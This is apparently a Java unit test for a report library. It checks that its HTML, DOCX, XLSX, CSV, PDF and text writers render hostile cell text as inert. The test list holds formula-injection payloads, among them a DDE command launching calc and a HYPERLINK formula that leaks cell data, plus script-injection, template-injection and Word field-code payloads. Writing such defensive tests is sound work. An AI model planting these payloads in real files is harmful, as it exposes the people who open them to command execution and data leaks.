package org.cotejo.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.cotejo.compare.Piece;
import org.cotejo.report.ComparisonTable.Cell;
import org.cotejo.report.ComparisonTable.Column;
import org.cotejo.report.ComparisonTable.Line;
import org.cotejo.report.house.HouseStyle;
import org.cotejo.rulebook.Tradition;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Whatever a law, a file's name or a reviewer says, it stays text in every format there is: a format added to the list of
 * writers is held to it by itself. The measure is the same report with a harmless word in the same places.
 */
class HostileTextsTest {
    private static final Locale SPANISH = ReportWriterContract.SPANISH;
    private static final String HARMLESS = "inocuo";

    /** What makes more than text of a cell. */
    private static final String HEADS = "=-+@\t\r＝";

    private static final List<String> TEXTS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://example.org/?\"&A1,\"clic\")",
            "=cmd|'/C calc'!A0",
            "-1+1",
            "+1-1\n@SUM(1;1)",
            "@SUM(1;1)",
            "\t=1+1",
            "\r=1+1",
            "uno\n=1+1",
            "＝1+1",
            "a,\"b\";\tc\r\n=1+1",
            "</script><script>alert(1)</script><!-- ]]> --> \" onmouseover=\"alert(1)' x=' ${7*7} #{7*7} @if(true)x@endif",
            "[clic](http://example.org) {0} javascript:alert(1)",
            "{ INCLUDEPICTURE \"http://example.org/x\" \\d } { DDEAUTO c:\\\\x \"y\" }",
            "a_x0041_b &amp; %41 \\u0041",
            "a\u0000b\u0007c\u001b[31md\u0085\u202ee\ufffef",
            "a\ud800b\udc00c😀");

    /** Not one letter over and over: a file that is too well compressed is refused when it is read. */
    private static String word(int letters) {
        return new Random(7)
                .ints(letters, 'a', 'z' + 1)
                .mapToObj(Character::toString)
                .collect(Collectors.joining());
    }

    /**
     * The texts that are tried in a format. In a table a text is what it begins with, so that those that begin alike are one;
     * elsewhere all are one, each on a line of its own. A long word is longer than a cell holds, in print than a page.
     */
    private static Collection<String> texts(Written.Kind kind) {
        boolean isTable = kind == Written.Kind.XLSX || kind == Written.Kind.CSV;
        Map<Character, String> joined = new LinkedHashMap<>();
        for (String text : TEXTS) {
            char begin = isTable && HEADS.indexOf(text.charAt(0)) >= 0 ? text.charAt(0) : 'a';
            joined.merge(begin, text, (before, more) -> before + "\n" + more);
        }
        List<String> texts = new ArrayList<>(joined.values());
        texts.add(word(kind == Written.Kind.PDF ? 6_000 : 40_000));
        return texts;
    }

    /** Writes a text, wherever one may stand, in one format. */
    private interface Writing {
        byte[] of(String text) throws IOException;
    }

    @TestFactory
    Stream<DynamicTest> no_report_takes_words_for_anything_else() throws IOException {
        List<DynamicTest> tests = new ArrayList<>();
        for (ReportWriter writer : ReportWriters.builtIn()) {
            add(writer.format(), text -> report(writer, text), tests);
        }
        return tests.stream();
    }

    @TestFactory
    Stream<DynamicTest> no_comparison_takes_words_for_anything_else() throws IOException {
        List<DynamicTest> tests = new ArrayList<>();
        for (Map.Entry<String, TableWriting> table : TABLES.entrySet()) {
            add(table.getKey(), text -> table(table.getValue(), text), tests);
        }
        return tests.stream();
    }

    private static void add(String format, Writing writing, List<DynamicTest> tests) throws IOException {
        Written harmless = Written.of(writing.of(HARMLESS));
        for (String text : texts(harmless.kind())) {
            String name = text.substring(0, Math.min(20, text.length())).replaceAll("\\p{Cntrl}", "^");
            tests.add(dynamicTest(format + ": " + name, () -> {
                Written hostile = Written.as(harmless.kind(), writing.of(text));

                assertThat(hostile.active()).isEqualTo(harmless.active());
                hostile.assertShows(text);
            }));
        }
    }

    private static byte[] report(ReportWriter writer, String text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        writer.write(Reports.hostile(text), Books.libraries(), SPANISH, out);
        return out.toByteArray();
    }

    /** Writes a comparison table in one format. */
    private interface TableWriting {
        void write(ComparisonTable table, Locale locale, ByteArrayOutputStream out) throws IOException;
    }

    private static final Map<String, TableWriting> TABLES = Map.of(
            "html", (table, locale, out) -> new TableHtmlWriter().write(table, locale, out),
            "docx",
                    (table, locale, out) ->
                            new TableDocxWriter(HouseStyle.OURS, Tradition.Sheet.A4).write(table, locale, out),
            "xlsx", (table, locale, out) -> new TableXlsxWriter().write(table, locale, out),
            "text", (table, locale, out) -> new TableTextWriter().write(table, out));

    private static byte[] table(TableWriting writing, String text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Cell changed = Cell.words(List.of(
                new Piece(Piece.Kind.SAME, text),
                new Piece(Piece.Kind.DELETED, text),
                new Piece(Piece.Kind.INSERTED, text)));
        ComparisonTable table = new ComparisonTable(
                text,
                List.of(text),
                List.of(new Column(text, 1), new Column(text, 1)),
                List.of(Line.heading(text), Line.of(Cell.label(text), changed), Line.of(Cell.text(text), Cell.EMPTY)));
        writing.write(table, SPANISH, out);
        return out.toByteArray();
    }
}
